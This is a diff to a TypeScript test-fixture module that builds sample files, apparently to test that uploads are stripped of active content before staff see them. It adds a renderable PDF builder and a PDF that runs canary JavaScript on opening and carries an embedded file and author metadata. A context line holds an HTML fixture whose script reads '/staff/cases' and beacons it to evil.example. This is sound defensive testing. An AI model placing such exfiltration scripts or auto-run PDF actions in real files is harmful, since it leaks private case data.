@@ -235,8 +235,51 @@ export function mp4(brand = "isom", compatible = [brand, "mp41"]): Bytes {
   return bytesOf(u32be(16 + 4 * compatible.length), "ftyp", brand, u32be(0x200), ...compatible, u32be(8), "mdat");
 }
 
-export function pdf(extra = ""): Bytes {
-  return bytesOf(`%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n${extra}trailer << /Root 1 0 R >>\n%%EOF\n`);
+/**
+ * A one-page PDF (a line of text) that poppler renders. `extra` goes in as
+ * written before the cross-reference table (comments, stray keys); `more` are
+ * further objects, numbered from 6 and listed in the table; `catalog` and
+ * `trailer` add entries to those dictionaries.
+ */
+export function pdf(extra = "", catalog = "", trailer = "", more: string[] = []): Bytes {
+  const draw = "BT /F1 24 Tf 72 720 Td (Evidence page) Tj ET";
+  const objects = [
+    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog}>> endobj\n`,
+    "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n",
+    "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >> endobj\n",
+    "4 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj\n",
+    `5 0 obj << /Length ${draw.length} >> stream\n${draw}\nendstream endobj\n`,
+    ...more.map((body, i) => `${6 + i} 0 obj ${body} endobj\n`),
+  ];
+  let text = "%PDF-1.4\n";
+  const offsets: number[] = [];
+  for (const object of objects) {
+    offsets.push(text.length);
+    text += object;
+  }
+  text += extra;
+  const xref = text.length;
+  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
+  text += `trailer << /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
+  return bytesOf(text);
+}
+
+/**
+ * A PDF carrying what a staff copy must not: JavaScript run on opening
+ * (/OpenAction and /Names /JavaScript), a document action (/AA), an embedded
+ * file, XMP metadata and an Info dictionary with /Author.
+ */
+export function pdfWithScripts(): Bytes {
+  const stream = (dict: string, data: string) => `<< ${dict} /Length ${data.length} >> stream\n${data}\nendstream`;
+  const more = [
+    "<< /S /JavaScript /JS (app.alert\\('canary-script'\\)) >>",
+    "<< /Names [(canary-js) 6 0 R] >>",
+    stream("/Type /EmbeddedFile", "canary-payload"),
+    "<< /Names [(canary.txt) << /Type /Filespec /F (canary.txt) /EF << /F 8 0 R >> >>] >>",
+    stream("/Type /Metadata /Subtype /XML", "<x:xmpmeta>Jane Canary xmp author</x:xmpmeta>"),
+    "<< /Author (Jane Canary) /Creator (Canary Phone Scanner) /Title (Canary medical record) >>",
+  ];
+  return pdf("", "/OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> /Metadata 10 0 R ", "/Info 11 0 R ", more);
 }
 
 export const html = () => bytesOf("<!DOCTYPE html><html><body><script>fetch('/staff/cases').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>");
